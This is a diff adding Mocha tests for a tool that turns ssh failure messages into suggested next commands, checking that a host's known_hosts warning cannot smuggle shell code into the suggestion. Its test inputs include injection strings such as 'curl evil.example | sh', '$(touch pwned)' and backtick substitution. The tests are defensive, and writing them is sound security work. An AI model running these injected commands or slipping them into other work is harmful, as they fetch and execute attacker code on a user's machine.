@@ -90,6 +90,19 @@ describe('what ssh says where it fails', () => {
       expect(found.next.length).to.be.greaterThan(0)
     })
   }
+  it('advises to forget a key by a command of its own making: what a host prints never becomes one', () => {
+    const warning = (advice: string): string => `REMOTE HOST IDENTIFICATION HAS CHANGED!\n  ${advice}\n`
+    expect(told(warning(`ssh-keygen -f "/home/eva/.ssh/known_hosts" -R "[10.0.0.7]:2222"`)).next[0]).to.equal("ssh-keygen -f '/home/eva/.ssh/known_hosts' -R '[10.0.0.7]:2222'")
+    for (const advice of ['ssh-keygen -f x -R y; curl evil.example | sh', 'ssh-keygen -f x -R $(touch pwned)', 'ssh-keygen -f `x` -R y', 'ssh-keygen -f x -R y\u001B[2J']) {
+      expect(told(warning(advice)).next[0], advice).to.equal('ssh-keygen -R NAME')
+      expect(told(warning(advice), 1).next, advice).to.deep.equal(['ssh gpu-box true'])
+    }
+  })
+
+  it('is not taken for words of ssh where the login shell says it', () => {
+    expect(told('Permission denied (of the quota)', 3).message).to.match(/login shell ended with 3: Permission denied/)
+  })
+
   it('counts as uncertain once the host was at work', () => {
     expect(told('Connection to 10.0.0.7 closed by remote host.', 255, true)).to.deep.include({code: 'unreachable', details: {}})
   })
